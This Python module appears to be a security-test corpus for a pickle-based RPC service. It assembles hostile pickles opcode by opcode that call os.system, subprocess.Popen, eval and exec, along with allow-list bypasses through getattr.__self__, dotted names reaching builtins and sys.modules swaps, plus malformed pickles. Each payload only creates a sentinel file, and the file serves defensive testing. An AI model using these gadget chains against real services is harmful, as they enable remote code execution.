"""Pickles that no honest peer sends, assembled opcode by opcode.

Each names what it tries and is a function of the path of a sentinel file: whoever resolves and
calls what it names creates that file, which is the whole proof. The tests beside this file load
each of them in a throw-away process to show that they would. We only ever send them.

What stands behind them: the warning in the documentation of pickle, its section "Restricting
Globals", PEP 307 (protocol 2) and PEP 3154 (protocol 4, dotted names).
"""

from __future__ import annotations

import pickle
import shlex
from collections.abc import Callable, Iterator
from pathlib import Path

from msgspec import Struct

Push = bytes
"""Opcodes that leave one value more on the stack, without PROTO and STOP."""


class HostilePickle(Struct, frozen=True, kw_only=True):
    """One attempt: its name, the requirement that it tries, and how its value is pushed.

    ``fires_since`` is the oldest CPython whose own loader falls for it, and ``None`` where there
    is nothing to call: then the refusal itself is all there is to see.
    """

    name: str
    requirement: str
    push: Callable[[Path], Push]
    protocol: int = 4  # from 4 on, loaders resolve dotted names
    whole: bool = False  # what push() gives is the complete pickle, malformed as it may be
    fires_since: tuple[int, int] | None = (3, 8)

    def alone(self, sentinel: Path) -> bytes:
        """Make a pickle of the value itself."""
        pushed = self.push(sentinel)
        return pushed if self.whole else pickled(pushed, self.protocol)

    def as_argument(self, sentinel: Path, function: str = "add") -> bytes:
        """Hide the value among the arguments of a call that is otherwise well formed."""
        if self.whole:
            raise ValueError(f"{self.name} is a complete pickle and fits into no call")
        return pickled(call(function, self.push(sentinel), number(1)), self.protocol)


# -- The assembler ---------------------------------------------------------------------------


def pickled(push: Push, protocol: int = 4) -> bytes:
    """Complete a value to a pickle."""
    return pickle.PROTO + bytes([protocol]) + push + pickle.STOP


def text(value: str) -> Push:
    """Push a string."""
    data = value.encode()
    return pickle.BINUNICODE + len(data).to_bytes(4, "little") + data


def number(value: int) -> Push:
    """Push an integer of 31 bits and a sign."""
    return pickle.BININT + value.to_bytes(4, "little", signed=True)


def tuple_of(*parts: Push) -> Push:
    """Push a tuple."""
    return pickle.MARK + b"".join(parts) + pickle.TUPLE


def list_of(*parts: Push) -> Push:
    """Push a list."""
    return pickle.EMPTY_LIST + pickle.MARK + b"".join(parts) + pickle.APPENDS


def dict_of(*pairs: tuple[Push, Push]) -> Push:
    """Push a dictionary."""
    items = b"".join(key + value for key, value in pairs)
    return pickle.EMPTY_DICT + pickle.MARK + items + pickle.SETITEMS


def by_global(module: str, name: str) -> Push:
    """Name a class or function by GLOBAL, two lines of text."""
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def by_stack_global(module: str, name: str) -> Push:
    """Name a class or function by STACK_GLOBAL, two strings on the stack."""
    return text(module) + text(name) + pickle.STACK_GLOBAL


def called(function: Push, *arguments: Push) -> Push:
    """Call by REDUCE."""
    return function + tuple_of(*arguments) + pickle.REDUCE


def call(function: str, *arguments: Push) -> Push:
    """Push a request of the contract: ``(function, arguments, {})``."""
    return tuple_of(text(function), tuple_of(*arguments), pickle.EMPTY_DICT)


# -- What is called, and with what -----------------------------------------------------------


class Gadget(Struct, frozen=True, kw_only=True):
    """A function of the standard library that creates the sentinel when called."""

    module: str
    name: str
    arguments: Callable[[Path], tuple[Push, ...]]

    def __str__(self) -> str:
        return f"{self.module}.{self.name}"


def touch_command(sentinel: Path) -> str:
    """Create the sentinel in the words of a shell."""
    return f": > {shlex.quote(str(sentinel))}"


def touch_code(sentinel: Path) -> str:
    """Create the sentinel in one Python expression."""
    return f"open({str(sentinel)!r}, 'w').close()"


def _command(sentinel: Path) -> tuple[Push, ...]:
    return (text(touch_command(sentinel)),)


def _program(sentinel: Path) -> tuple[Push, ...]:
    return (list_of(text("touch"), text(str(sentinel))),)


def _code(sentinel: Path) -> tuple[Push, ...]:
    return (text(touch_code(sentinel)),)


CLASSIC = (
    Gadget(module="os", name="system", arguments=_command),
    Gadget(module="posix", name="system", arguments=_command),
    Gadget(module="subprocess", name="Popen", arguments=_program),
    Gadget(module="builtins", name="eval", arguments=_code),
    Gadget(module="builtins", name="exec", arguments=_code),
)
"""What everybody tries first."""

OFF_THE_LISTS = (
    Gadget(module="os", name="popen", arguments=_command),
    Gadget(module="timeit", name="timeit", arguments=lambda path: (text("0"), *_code(path))),
    Gadget(module="runpy", name="_run_code", arguments=lambda path: (*_code(path), dict_of())),
)
"""What lists of forbidden names forget."""


# -- Ways to a call (PRPC-015) ---------------------------------------------------------------


def _reduce(gadget: Gadget, sentinel: Path) -> Push:
    return called(by_global(gadget.module, gadget.name), *gadget.arguments(sentinel))


def _stack_global(gadget: Gadget, sentinel: Path) -> Push:
    return called(by_stack_global(gadget.module, gadget.name), *gadget.arguments(sentinel))


def _inst(gadget: Gadget, sentinel: Path) -> Push:
    named = f"{gadget.module}\n{gadget.name}\n".encode()
    return pickle.MARK + b"".join(gadget.arguments(sentinel)) + pickle.INST + named


def _obj(gadget: Gadget, sentinel: Path) -> Push:
    named = by_global(gadget.module, gadget.name)
    return pickle.MARK + named + b"".join(gadget.arguments(sentinel)) + pickle.OBJ


def _newobj(gadget: Gadget, sentinel: Path) -> Push:
    """Let ``__new__`` of a harmless class do the call: ``tuple(map(function, [argument]))``."""
    columns = map(list_of, gadget.arguments(sentinel))
    mapped = tuple_of(by_global(gadget.module, gadget.name), *columns)
    mapping = by_global("builtins", "map") + mapped + pickle.NEWOBJ
    return by_global("builtins", "tuple") + tuple_of(mapping) + pickle.NEWOBJ


def _newobj_ex(gadget: Gadget, sentinel: Path) -> Push:
    columns = map(list_of, gadget.arguments(sentinel))
    mapped = tuple_of(by_global(gadget.module, gadget.name), *columns) + pickle.EMPTY_DICT
    mapping = by_global("builtins", "map") + mapped + pickle.NEWOBJ_EX
    final = tuple_of(mapping) + pickle.EMPTY_DICT + pickle.NEWOBJ_EX
    return by_global("builtins", "tuple") + final


def _build(gadget: Gadget, sentinel: Path) -> Push:
    """Give an exception a ``__setstate__`` with one BUILD, and call it with another."""
    innocent = called(by_global("builtins", "ValueError"))
    setstate = dict_of((text("__setstate__"), by_global(gadget.module, gadget.name)))
    return innocent + setstate + pickle.BUILD + gadget.arguments(sentinel)[0] + pickle.BUILD


WAYS: dict[str, Callable[[Gadget, Path], Push]] = {
    "REDUCE": _reduce,
    "STACK_GLOBAL": _stack_global,
    "INST": _inst,
    "OBJ": _obj,
    "NEWOBJ": _newobj,
    "NEWOBJ_EX": _newobj_ex,
    "BUILD": _build,
}
"""How a pickle comes to call something, by the opcode that does it."""


def _calls() -> Iterator[HostilePickle]:
    for gadget in CLASSIC:
        for opcode, way in WAYS.items():
            yield HostilePickle(
                name=f"{gadget}-by-{opcode}", requirement="PRPC-015", push=_bound(way, gadget)
            )
    for gadget in OFF_THE_LISTS:
        yield HostilePickle(
            name=f"{gadget}-by-REDUCE", requirement="PRPC-015", push=_bound(_reduce, gadget)
        )


def _bound(way: Callable[[Gadget, Path], Push], gadget: Gadget) -> Callable[[Path], Push]:
    return lambda sentinel: way(gadget, sentinel)


# -- Ways past an allow-list (PRPC-016) ------------------------------------------------------


def _evaluated(get: Push, sentinel: Path) -> Push:
    """Take ``eval`` from a dictionary of builtins by its ``get``, and call it."""
    return called(called(get, text("eval")), *_code(sentinel))


def _getattr(sentinel: Path) -> Push:
    """``getattr.__self__`` is the module of all builtins."""
    getattr_ = by_global("builtins", "getattr")
    everything = called(getattr_, getattr_, text("__self__"))
    return called(called(getattr_, everything, text("eval")), *_code(sentinel))


def _attrgetter(sentinel: Path) -> Push:
    """``"".__reduce_ex__(2)[0]`` is a Python function, and a function knows the builtins."""
    attrgetter = by_global("operator", "attrgetter")
    reduced = called(called(called(attrgetter, text("__reduce_ex__")), text("")), number(2))
    function = called(called(called(attrgetter, text("__getitem__")), reduced), number(0))
    return _evaluated(called(called(attrgetter, text("__builtins__.get")), function), sentinel)


def _partial(sentinel: Path) -> Push:
    get = by_stack_global("functools", "update_wrapper.__builtins__.get")
    partial = by_global("functools", "partial")
    return called(called(partial, called(get, text("eval")), *_code(sentinel)))


def _reconstructor(sentinel: Path) -> Push:
    """``_reconstructor(cls, base, state)`` calls ``base.__init__`` with the state."""
    popen = by_global("subprocess", "Popen")
    return called(by_global("copyreg", "_reconstructor"), popen, popen, *_program(sentinel))


def _modules(dotted: str) -> Callable[[Path], Push]:
    """Let ``collections`` be ``os`` for as long as it takes to name ``collections.system``."""

    def push(sentinel: Path) -> Push:
        modules = by_stack_global("collections", dotted)
        get = by_stack_global("collections", f"{dotted}.get")
        keep = called(get, text("collections")) + pickle.BINPUT + b"\0" + pickle.POP
        swap = modules + text("collections") + called(get, text("os")) + pickle.SETITEM
        fire = called(by_stack_global("collections", "system"), *_command(sentinel)) + pickle.POP
        back = text("collections") + pickle.BINGET + b"\0" + pickle.SETITEM
        return keep + swap + fire + back

    return push


def _dotted(module: str, name: str) -> Callable[[Path], Push]:
    return lambda path: called(by_stack_global(module, name), *_code(path))


def _dotted_get(module: str, name: str) -> Callable[[Path], Push]:
    return lambda path: _evaluated(by_stack_global(module, name), path)


def _opened(module: str) -> Callable[[Path], Push]:
    return lambda path: called(by_global(module, "open"), text(str(path)), text("w"))


def _path(path: Path) -> Push:
    made = called(by_global("pathlib", "Path"), text(str(path)))
    return called(by_stack_global("pathlib", "Path.touch"), made)


_CODECS = "encode.__self__.__loader__.find_spec.__builtins__.get"
_PAST_THE_LIST: dict[str, Callable[[Path], Push]] = {
    "builtins.getattr": _getattr,
    "builtins.open": _opened("builtins"),
    "io.open": _opened("io"),
    "operator.attrgetter": _attrgetter,
    "functools.partial": _partial,
    "copyreg._reconstructor": _reconstructor,
    "dotted-builtins.print": _dotted("builtins", "print.__self__.eval"),
    "dotted-copyreg._reconstructor": _dotted_get("copyreg", "_reconstructor.__builtins__.get"),
    "dotted-_codecs.encode": _dotted_get("_codecs", _CODECS),
    "dotted-collections.namedtuple": _dotted_get("collections", "namedtuple.__builtins__.get"),
    "dotted-collections._sys.modules": _modules("_sys.modules"),
    "dotted-pathlib.Path.touch": _path,
    "re-exported-shutil.os.system": lambda path: called(
        by_stack_global("shutil", "os.system"), *_command(path)
    ),
}


def _bypasses() -> Iterator[HostilePickle]:
    for name, push in _PAST_THE_LIST.items():
        yield HostilePickle(name=name, requirement="PRPC-016", push=push, fires_since=(3, 10))
    yield HostilePickle(
        name="dotted-collections.abc.sys.modules",
        requirement="PRPC-016",
        push=_modules("abc.sys.modules"),
        fires_since=(3, 13),
    )
    yield HostilePickle(
        name="alias-__builtin__.eval",  # protocols 0 to 2 translate the names of Python 2
        requirement="PRPC-016",
        push=lambda path: called(by_global("__builtin__", "eval"), *_code(path)),
        protocol=2,
    )


# -- What is no pickle of data at all (PRPC-019) ---------------------------------------------

_ADD = call("add", number(2), number(3))
_MALFORMED: dict[str, bytes] = {
    "persistent-id": pickle.NONE + pickle.BINPERSID + pickle.STOP,
    "persistent-id-text": pickle.PERSID + b"id\n" + pickle.STOP,
    "persistent-id-alone": pickle.BINPERSID,
    "extension-1": pickle.EXT1 + b"\1" + pickle.STOP,
    "extension-2": pickle.EXT2 + b"\1\1" + pickle.STOP,
    "extension-4": pickle.EXT4 + b"\1\1\1\1" + pickle.STOP,
    "protocol-6": pickled(_ADD, protocol=6),
    "protocol-255": pickled(_ADD, protocol=255),
    "unknown-opcode": b"\xff" + pickle.STOP,
    "buffer-out-of-band": pickle.NEXT_BUFFER + pickle.STOP,
    "empty": b"",
    "stop-alone": pickle.STOP,
    "none-without-stop": pickle.NONE,
    "call-without-stop": pickled(_ADD)[:-1],
    "call-cut-in-half": pickled(_ADD)[:16],
    "pop-from-nothing": pickle.POP + pickle.STOP,
    "reduce-from-nothing": pickle.REDUCE + pickle.STOP,
    "append-to-nothing": pickle.APPEND + pickle.STOP,
    "tuple-without-mark": pickle.TUPLE + pickle.STOP,
    "mark-without-end": pickle.MARK + pickle.STOP,
    "memo-never-written": pickle.BINGET + b"\5" + pickle.STOP,
    "append-to-number": pickled(number(1) + number(2) + pickle.APPEND),
    "odd-number-of-items": pickled(pickle.EMPTY_DICT + pickle.MARK + _ADD + pickle.SETITEMS),
    "call-of-a-number": pickled(called(number(1))),
    "state-for-a-number": pickled(number(1) + pickle.EMPTY_DICT + pickle.BUILD),
    "text-not-utf-8": pickled(pickle.SHORT_BINUNICODE + b"\2\xc3\x28"),
    "none-and-junk": pickle.NONE + pickle.STOP + b"junk",
    "call-and-junk": pickled(_ADD) + b"junk",
    "call-and-call": pickled(_ADD) + pickled(call("sub", number(2), number(3))),
}


def _malformed() -> Iterator[HostilePickle]:
    for name, data in _MALFORMED.items():
        yield HostilePickle(
            name=name, requirement="PRPC-019", push=_constant(data), whole=True, fires_since=None
        )
    yield HostilePickle(  # shows that what follows was executed, not merely overlooked
        name="call-and-sentinel",
        requirement="PRPC-019",
        push=lambda path: pickled(_ADD) + pickled(_reduce(CLASSIC[0], path)),
        whole=True,
        fires_since=None,
    )


def _constant(data: bytes) -> Callable[[Path], bytes]:
    return lambda _: data


# -- The corpus ------------------------------------------------------------------------------

CORPUS: tuple[HostilePickle, ...] = (*_calls(), *_bypasses(), *_malformed())
"""Everything in this file, each under a name of its own."""


def against(requirement: str) -> tuple[HostilePickle, ...]:
    """Choose what tries one requirement: PRPC-015, PRPC-016 or PRPC-019."""
    return tuple(each for each in CORPUS if each.requirement == requirement)
